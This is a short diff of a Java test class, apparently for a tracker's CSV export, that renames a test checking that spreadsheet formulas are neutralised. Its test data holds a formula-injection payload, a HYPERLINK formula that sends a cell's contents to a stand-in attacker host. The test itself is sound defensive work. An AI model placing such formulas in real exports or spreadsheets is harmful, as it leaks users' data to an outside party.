@@ -77,7 +77,7 @@ class TrackerDatasetTest {
 	}
 
 	@Test
-	void neutralisesFormulasInTheCsvAndEscapesMarkupOnThePages() throws Exception {
+	void neutralisesFormulasInTheCsv() throws Exception {
 		TestInstrument own = TestInstrument.create(this.tracker);
 		String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
 		this.tracker.record(TestInstrument.draft(own.first(), "IE", Status.PARTLY, LocalDate.of(2022, 3, 1), formula),
